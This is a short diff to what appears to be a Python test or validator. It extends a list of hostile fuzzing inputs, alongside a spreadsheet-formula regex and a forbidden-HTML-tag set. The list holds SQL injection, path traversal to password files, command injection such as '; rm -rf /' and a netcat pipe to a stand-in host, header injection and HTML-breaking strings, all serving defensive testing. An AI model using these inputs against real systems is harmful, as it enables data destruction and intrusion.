@@ -49,7 +49,7 @@ HOSTILE = (
     *("' UNION SELECT value FROM keys --", "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", "C:\\CON"),
     *("file:///etc/passwd", "a/../../b", "~root", "; rm -rf /", "$(reboot)", "`id`", "| nc evil.example 1", "&& true"),
     *("\r\nSet-Cookie: a=b", "a\r\n\r\nb", "\x00", "\x1b[2J", "\u202egnp.exe", "\u200b", "\ufeff", "a" * 5000),
-    *("\U0001f4a9", "e\u0301", "\ufdfa", "NaN", "1e999", "-0", "0x10", "1_000", "\uff11"),
+    *("\U0001f4a9", "e\u0301", "\ufdfa", "NaN", "1e999", "-0", "0x10", "1_000", "\uff11", "\u2028", "</textarea><b>"),
 )
 FORMULA = re.compile(r"[=+@\t\r]|-(?!\d)")
 FORBIDDEN = {"img", "iframe", "object", "embed", "base", "frame", "math"}
